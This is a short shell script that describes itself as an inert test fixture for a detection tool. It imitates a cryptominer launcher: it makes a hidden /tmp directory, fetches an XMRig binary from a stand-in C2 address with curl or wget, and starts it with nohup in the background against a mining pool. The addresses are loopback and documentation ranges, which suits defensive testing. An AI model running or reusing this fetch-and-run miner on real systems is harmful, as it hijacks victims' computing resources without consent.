#!/bin/sh
# INERT TEST FIXTURE for firedamp (tests/tools/c2www): mimics a miner launcher
# (Graboid's xmr.sh stage): fetch XMRig, start it against a pool. It is served
# to capture clients and never executed; every address in it is loopback
# (127.0.0.x) or documentation space (198.51.100.x); the wallet is random.
C2=http://127.0.0.66
POOL=stratum+tcp://198.51.100.20:3333
WALLET=47pPsmvpia2vWrGi4zB8QXxGRb7dG1oETJCxrRBqt59ggV991x1ErEBxBKMDbykhECmDzRL2QTBAH5NLufe1fknN5LPuLXm
mkdir -p /tmp/.x && cd /tmp/.x || exit 0
curl -s -o xmrig $C2/xmrig || wget -q -O xmrig $C2/xmrig
chmod +x xmrig
nohup ./xmrig -o $POOL -u $WALLET -p x -k --donate-level 1 --max-cpu-usage 90 --background >/dev/null 2>&1 &
